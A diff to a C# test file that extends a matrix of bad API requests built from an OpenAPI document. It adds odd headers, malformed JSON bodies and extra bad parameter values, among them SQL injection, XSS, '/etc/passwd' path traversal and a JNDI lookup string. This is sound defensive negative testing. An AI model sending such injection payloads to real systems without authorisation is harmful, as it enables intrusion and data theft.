@@ -6,9 +6,10 @@ using System.Text.Json.Nodes;
 namespace SignalHarvester.Tests.Api.BadInput;
 
 /// <summary>
-/// Bad requests for every operation of an OpenAPI document: each parameter in turn set to each bad value
-/// (NUL, overflow, NaN, an unknown enum value, empty, very long) and, where the operation takes a body, bad
-/// bodies for each media type it accepts. Each bad input goes out without a key, with a wrong key and with
+/// Bad requests for every operation of an OpenAPI document: odd headers; each parameter in turn set to each bad
+/// value (NUL, overflow, negative, NaN, wrong types, an unknown enum value, empty, very long, injection and traversal
+/// strings, odd Unicode) and, where the operation takes a body, bad bodies for each media type it accepts (malformed,
+/// wrong types, deeply nested, invalid UTF-8, oversized). Each bad input goes out without a key, with a wrong key and with
 /// the good key, the <c>Accept</c> header rotating; besides, every operation gets every <c>Accept</c> × key
 /// pair once. Path parameters not under test name nothing that exists, and a mutation with the good key always
 /// carries a bad input, so nothing valid is ever asked of the API.
@@ -33,8 +34,8 @@ internal static class BadRequestMatrix
                 var parameters = operation.Value.TryGetProperty("parameters", out var list) ? list.EnumerateArray().ToList() : [];
                 var inputs = Inputs(document, parameters, operation.Value).ToList();
                 BadRequest? Make(BadInput? input, string? key, string? accept) =>
-                    input is null && key == goodKey && method != HttpMethod.Get
-                        ? null // a mutation with nothing wrong in it would be carried out
+                    (input is null || input.Header is not null) && key == goodKey && method != HttpMethod.Get
+                        ? null // a mutation with nothing wrong in it (an odd header is not wrong enough) would be carried out
                         : Request($"{operation.Name.ToUpperInvariant()} {path.Name}", method, path.Name, parameters, input, key, accept);
 
                 for (var i = 0; i < inputs.Count; i++)
@@ -60,14 +61,19 @@ internal static class BadRequestMatrix
 
     private static IEnumerable<BadInput> Inputs(JsonElement document, List<JsonElement> parameters, JsonElement operation)
     {
+        foreach (var (name, value) in OddHeaders)
+        {
+            yield return new BadInput($"header {name}={Describe(value)}", null, null, null, null, false, (name, value));
+        }
+
         foreach (var parameter in parameters)
         {
             var name = parameter.GetProperty("name").GetString()!;
             var location = parameter.GetProperty("in").GetString()!;
             foreach (var value in BadValues(parameter.TryGetProperty("schema", out var schema) ? schema : default))
             {
-                // HttpClient will not send a NUL in a header (nor would Kestrel take one: docs/api.md).
-                if (location != "header" || value != Nul)
+                // HttpClient sends only ASCII in a header, never a NUL (nor would Kestrel take one: docs/api.md).
+                if (location != "header" || (value != Nul && Ascii.IsValid(value)))
                 {
                     yield return new BadInput($"{location} {name}={Describe(value)}", name, value, null, null, value == Nul);
                 }
@@ -93,6 +99,21 @@ internal static class BadRequestMatrix
         }
     }
 
+    /// <summary>Headers a client may send that the API never asked for, or in a shape it does not expect.</summary>
+    private static readonly (string Name, string Value)[] OddHeaders =
+    [
+        ("X-API-Key", new string('k', 10_000)),
+        ("X-API-Key", "\"quoted\" key with spaces"),
+        ("X-Forwarded-For", "not-an-address, 999.999.999.999"),
+        ("Content-Type", "application/json; charset=utf-16"),
+        ("Range", "bytes=999999999-"),
+        ("If-None-Match", "*"),
+        ("Authorization", "Bearer not-a-token"),
+        ("Cookie", "session=" + new string('c', 4000)),
+        ("Origin", "null"),
+        ("Accept-Encoding", "gzip;q=NaN, br;q=-1"),
+    ];
+
     private static IEnumerable<string> BadValues(JsonElement schema)
     {
         var types = schema.ValueKind == JsonValueKind.Object ? Types(schema) : [];
@@ -102,6 +123,30 @@ internal static class BadRequestMatrix
         yield return "no-such-value";
         yield return "";
         yield return new string('x', 3000); // long, yet under Kestrel's 8 KiB request line
+        yield return "-1";
+        yield return "-9223372036854775809";
+        yield return "1.5";
+        yield return "0x1F";
+        yield return "true";
+        yield return "[1,2]";
+        yield return " ";
+        // Injection and traversal strings: stored or searched for as text, never interpreted.
+        yield return "' OR '1'='1' --";
+        yield return "1; DROP TABLE tweets; --";
+        yield return "<script>alert(1)</script>";
+        yield return "../../../../etc/passwd";
+        yield return "${jndi:ldap://example.invalid/a}";
+        yield return "%00%ff";
+        yield return @"\u0000"; // the escape as text, not the character
+        yield return "\u202e\u200b\U0001F642"; // right-to-left override, zero-width space, an emoji
+        yield return "1e3";
+        yield return "-0";
+        yield return "00000000001";
+        yield return "%";
+        yield return "null";
+        yield return "undefined";
+        yield return "*";
+        yield return "\t";
     }
 
     private static IEnumerable<(string, byte[], bool Nul)> JsonBodies(JsonElement document, JsonElement schema)
@@ -118,6 +163,13 @@ internal static class BadRequestMatrix
         yield return ("very long strings", Encoding.UTF8.GetBytes(Fill(document, schema, new string('x', 100_000))!.ToJsonString()), false);
         yield return ("1e999 everywhere", Encoding.UTF8.GetBytes("{" + string.Join(",", properties.Select(p => $"\"{p}\":1e999")) + "}"), false);
         yield return ("NaN everywhere", Encoding.UTF8.GetBytes("{" + string.Join(",", properties.Select(p => $"\"{p}\":\"NaN\"")) + "}"), false);
+        yield return ("an object everywhere", Encoding.UTF8.GetBytes("{" + string.Join(",", properties.Select(p => $"\"{p}\":{{\"a\":1}}")) + "}"), false);
+        yield return ("true everywhere", Encoding.UTF8.GetBytes("{" + string.Join(",", properties.Select(p => $"\"{p}\":true")) + "}"), false);
+        yield return ("-1 everywhere", Encoding.UTF8.GetBytes("{" + string.Join(",", properties.Select(p => $"\"{p}\":-1")) + "}"), false);
+        yield return ("nested 10,000 deep", Encoding.UTF8.GetBytes(new string('[', 10_000) + new string(']', 10_000)), false);
+        yield return ("invalid UTF-8", [.. "{\"a\":\""u8, 0xC3, 0x28, 0xFF, .. "\"}"u8], false);
+        yield return ("a byte-order mark then truncated", [0xEF, 0xBB, 0xBF, .. "{\"a\":"u8], false);
+        yield return ("duplicate properties", Encoding.UTF8.GetBytes("{" + string.Join(",", properties.SelectMany(p => new[] { $"\"{p}\":1", $"\"{p}\":\"x\"" })) + "}"), false);
     }
 
     private static IEnumerable<(string, byte[], bool Nul)> CsvBodies()
@@ -197,6 +249,7 @@ internal static class BadRequestMatrix
             }
         }
 
+        header = input?.Header ?? header;
         var url = query.Count == 0 ? path : $"{path}?{string.Join('&', query)}";
         var nulInPath = input?.CarriesNul == true && parameters.Any(p => p.GetProperty("name").GetString() == input.Parameter && p.GetProperty("in").GetString() == "path");
         return new BadRequest(operation, method, url, header, input?.ContentType, input?.Body, key, accept,
@@ -216,4 +269,5 @@ internal static class BadRequestMatrix
 }
 
 /// <summary>What is wrong with one request: a parameter's value, or the body (with its media type); whether that is a NUL.</summary>
-internal sealed record BadInput(string Description, string? Parameter, string? Value, string? ContentType, byte[]? Body, bool CarriesNul);
+internal sealed record BadInput(
+    string Description, string? Parameter, string? Value, string? ContentType, byte[]? Body, bool CarriesNul, (string Name, string Value)? Header = null);
